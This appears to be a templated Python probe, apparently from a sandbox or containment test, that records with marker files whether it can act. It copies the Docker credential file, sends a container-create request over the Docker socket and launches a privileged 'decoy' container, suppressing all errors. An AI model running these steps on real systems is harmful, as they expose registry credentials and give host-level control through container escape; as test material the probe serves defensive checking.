import contextlib
import socket
import subprocess
from pathlib import Path


def act():
    with contextlib.suppress(OSError):
        Path("@MARKS@/login").write_bytes(Path.home().joinpath(".docker/config.json").read_bytes())
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as engine:
        engine.settimeout(3)
        engine.connect("/run/docker.sock")
        engine.sendall(b"POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Length: 2\r\n\r\n{}")
        if engine.recv(65536):
            Path("@MARKS@/engine").write_text("created-@TOKEN@")
    with contextlib.suppress(OSError):
        subprocess.run(["docker", "run", "--privileged", "decoy"], check=False)
